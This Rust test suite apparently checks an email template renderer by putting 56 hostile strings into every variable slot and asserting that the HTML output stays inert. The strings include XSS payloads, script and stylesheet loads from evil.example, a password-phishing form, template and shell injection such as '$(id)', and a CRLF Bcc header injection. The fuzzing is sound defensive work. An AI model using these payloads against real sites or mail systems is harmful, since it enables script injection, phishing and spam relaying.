//! Hostile strings in every slot of every shipped message, read by an HTML parser as browsers read: no script, no handler, no
//! foreign scheme, no other structure than with a harmless word.

use std::collections::BTreeSet;

use scraper::Html;
use serde_json::{Value, json};
use tidings::catalog::{Bundle, Catalog, Source};
use tidings::domain::channel::Channel;
use tidings::domain::content::Content;
use tidings::domain::intent::Variables;
use tidings::render::{Filling, Links, RenderError, render};

const CORPUS: [&str; 56] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.gif\">",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x onload=alert(1) y=",
    "\" style=\"background:url(https://evil.example)",
    "\" href=\"https://evil.example",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<form action=https://evil.example><input name=password>",
    "</td></tr></table></div></body></html><p>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://evil.example\">your order</a>",
    "--><script>alert(1)</script><!--",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![endif]--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?><%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u{0}script>alert(1)</script>",
    "<scr\u{200b}ipt>alert(1)</scr\u{200b}ipt>",
    "\u{202e}txt.exe\u{7}\u{0}\u{feff}",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "{{shop.name}}{{{shop.name}}}{{&shop.name}}",
    "{{#each this}}{{this}}{{/each}}{{> layout}}",
    "\\{{shop.name}} {{{{raw}}}}x{{{{/raw}}}}",
    "tdx0v tdx1o tdx1e tdx1c tdx0l data-tdx-n=\"0\"",
    "{ $name } { t } { -brand }",
    "${7*7} #{7*7} `id` $(id) %s %n %00",
    "a\r\nBcc: victim@example.com\r\n\r\n<b>x</b>",
    "'\"<>&`=/\\",
];

fn fill(
    bundle: &Bundle,
    template: &str,
    locale: &str,
    variables: &Value,
    name: &str,
) -> Result<Content, RenderError> {
    render(&Filling {
        bundle,
        template,
        channel: Channel::Email,
        locale,
        variables: &Variables(variables.as_object().unwrap().clone()),
        given_name: name,
        time_zone: "Europe/Berlin",
        message_id: "0192f6a0-0000-7000-8000-000000000001",
        links: Links {
            preferences: "https://p.example/a?b=1&c=2".into(),
            unsubscribe: "https://u.example/x".into(),
        },
        variant: "",
    })
}

/// Every element with its attributes, in the order of the document: what no value may change. Values of attributes stay out where a
/// value may stand.
fn structure(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    page.root_element()
        .descendent_elements()
        .map(|element| {
            let element = element.value();
            let attributes: BTreeSet<String> = element
                .attrs()
                .map(|(name, value)| match name {
                    "class" | "style" | "role" | "width" | "align" => format!("{name}={value}"),
                    _ => name.to_owned(),
                })
                .collect();
            format!("{} {attributes:?}", element.name())
        })
        .collect()
}

/// What is never right, whatever the structure.
fn check(html: &str, about: &str) {
    let page = Html::parse_document(html);
    for element in page.root_element().descendent_elements() {
        let element = element.value();
        let active = [
            "script", "form", "input", "iframe", "object", "embed", "base", "link", "svg", "math",
            "textarea",
        ];
        assert!(
            !active.contains(&element.name()),
            "{about}: <{}>",
            element.name()
        );
        for (name, value) in element.attrs() {
            assert!(
                !name.starts_with("on") && name != "srcdoc",
                "{about}: {name}={value}"
            );
            if matches!(
                name,
                "href" | "src" | "action" | "background" | "formaction" | "poster"
            ) {
                let known = ["https://", "http://", "mailto:"];
                assert!(
                    known.iter().any(|scheme| value.starts_with(scheme)),
                    "{about}: {name}={value}"
                );
                assert!(!value.contains("evil.example"), "{about}: {name}={value}");
            }
            if name == "style" {
                assert!(!value.contains("url("), "{about}: {value}");
            }
        }
    }
}

/// The JSON pointers of all texts.
fn slots(value: &Value, at: &str, into: &mut Vec<String>) {
    match value {
        Value::Object(fields) => {
            for (name, field) in fields {
                slots(field, &format!("{at}/{name}"), into);
            }
        }
        // The first and the last of many stand for the others.
        Value::Array(items) => {
            let mut ends: Vec<usize> = vec![0, items.len().saturating_sub(1)];
            ends.dedup();
            for index in ends.into_iter().filter(|index| *index < items.len()) {
                slots(&items[index], &format!("{at}/{index}"), into);
            }
        }
        Value::String(_) => into.push(at.to_owned()),
        _ => {}
    }
}

/// Fills every slot with every string; counts the mails that came out, and those that were refused.
fn attack(bundle: &Bundle, key: &str, sample: &str) -> (usize, usize) {
    let sample = json!(bundle.sample(key, sample).unwrap().0);
    let mut pointers = Vec::new();
    slots(&sample, "", &mut pointers);
    pointers.push("name".into());
    let (mut filled, mut refused) = (0, 0);
    for pointer in &pointers {
        let put = |text: &str| {
            let mut variables = sample.clone();
            match variables.pointer_mut(pointer) {
                Some(slot) => {
                    *slot = json!(text);
                    fill(bundle, key, "en", &variables, "Ada")
                }
                None => fill(bundle, key, "en", &variables, text),
            }
        };
        let expected = match put("harmless") {
            Ok(Content::Email { html, .. }) => Some(structure(&html)),
            Ok(other) => panic!("{other:?}"),
            // An amount, a day or a link: no word is right here, and so no hostile one.
            Err(_) => None,
        };
        for text in CORPUS {
            let about = format!("{key} {pointer} {text:?}");
            match put(text) {
                Ok(Content::Email { html, subject, .. }) => {
                    filled += 1;
                    let expected = expected
                        .as_ref()
                        .unwrap_or_else(|| panic!("{about}: is taken, and a word is not"));
                    assert_eq!(&structure(&html), expected, "{about}");
                    check(&html, &about);
                    assert!(
                        !subject.contains(|c: char| c.is_control() || c == '\u{202e}'),
                        "{about}: {subject:?}"
                    );
                    let evaluated =
                        text.starts_with("{{") && html.matches("Nordlicht").count() > 40;
                    assert!(!evaluated, "{about}");
                }
                Ok(other) => panic!("{other:?}"),
                Err(error) => {
                    refused += 1;
                    assert!(
                        expected.is_none()
                            || text.trim().is_empty()
                            || error.sentence.contains("subject"),
                        "{about}: {error}"
                    );
                    assert!(!error.to_string().contains(text), "{error}");
                }
            }
        }
    }
    (filled, refused)
}

/// Every fourth message, so that each test ends in time on a machine that is busy with others.
fn attack_every_fourth(from: usize) {
    let catalog = Catalog::open(Source::Embedded).unwrap_or_else(|error| panic!("{error}"));
    let bundle = catalog.live();
    let keys: Vec<String> = bundle
        .manifests()
        .map(|manifest| manifest.key.clone())
        .collect();
    assert!(keys.len() >= 8, "{keys:?}");
    for key in keys.iter().skip(from).step_by(4) {
        let (filled, refused) = attack(&bundle, key, "typical");
        println!("{key}: {filled} mails filled, {refused} refused");
        assert!(filled >= CORPUS.len(), "{key}: {filled} {refused}");
    }
}

#[test]
fn no_string_changes_a_mail_in_any_slot() {
    attack_every_fourth(0);
}

#[test]
fn no_string_changes_a_mail_in_any_slot_2() {
    attack_every_fourth(1);
}

#[test]
fn no_string_changes_a_mail_in_any_slot_3() {
    attack_every_fourth(2);
}

#[test]
fn no_string_changes_a_mail_in_any_slot_4() {
    attack_every_fourth(3);
}

/// A checker that finds nothing would pass on anything.
#[test]
fn the_parser_sees_what_it_looks_for() {
    let plain = "<table><tr><td class=\"a\"><a href=\"https://a.example\">x</a></td></tr></table>";
    for hostile in [
        "<img src=x onerror=alert(1)>",
        "</td></tr></table><p>",
        "<a href=\"javascript:alert(1)\">x</a>",
    ] {
        let changed = plain.replace(">x<", &format!(">{hostile}<"));
        assert_ne!(structure(plain), structure(&changed), "{hostile}");
    }
    assert_ne!(
        structure(plain),
        structure(&plain.replace("\"a\"", "\"b\""))
    );
    assert_eq!(
        structure(plain),
        structure(&plain.replace(">x<", ">&lt;script&gt;<"))
    );
    for bad in [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=javascript:x>",
        "<p style=\"background:url(x)\">",
    ] {
        assert!(
            std::panic::catch_unwind(|| check(bad, "")).is_err(),
            "{bad}"
        );
    }
}
